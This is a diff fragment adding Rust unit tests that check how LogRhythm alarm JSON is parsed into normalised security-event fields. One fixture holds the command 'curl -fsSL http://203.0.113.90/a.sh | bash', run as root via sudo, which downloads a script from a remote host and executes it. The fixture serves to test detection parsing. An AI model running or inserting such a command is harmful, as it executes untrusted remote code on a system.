+        assert_eq!(str_at(&e, "user.id"), "S-1-5-21-1-2-3-500");
+        assert_eq!(str_at(&e, "host.name"), "MX01");
+    }
+    #[test]
+    fn logrhythm_alarm_events() {
+        let a = json!({"alarmId": 1185420, "alarmRuleName": "Remote Login Followed By Privileged Download",
+            "alarmEventsDetails": [
+                {"account": "itadmin", "command": null, "process": "sshd", "impactedHostName": "FIN-MBP"},
+                {"account": "root", "command": "/bin/bash -c curl -fsSL http://203.0.113.90/a.sh | bash", "process": "bash",
+                 "parentProcessName": "sudo", "impactedHostName": "FIN-MBP"}]});
+        let (e, id) = correlated_events(a.as_object().unwrap()).unwrap();
+        assert_eq!(id.as_deref(), Some("1185420"));
+        assert_eq!(
+            str_at(&e, "process.command_line"),
+            "/bin/bash -c curl -fsSL http://203.0.113.90/a.sh | bash"
+        );
+        assert_eq!(str_at(&e, "process.parent.name"), "sudo");
+        assert_eq!(str_at(&e, "user.name"), "root");
+        assert_eq!(str_at(&e, "host.name"), "FIN-MBP");
+        assert_eq!(
+            str_at(&e, "rule.name"),
+            "Remote Login Followed By Privileged Download"
+        );
+    }
+}
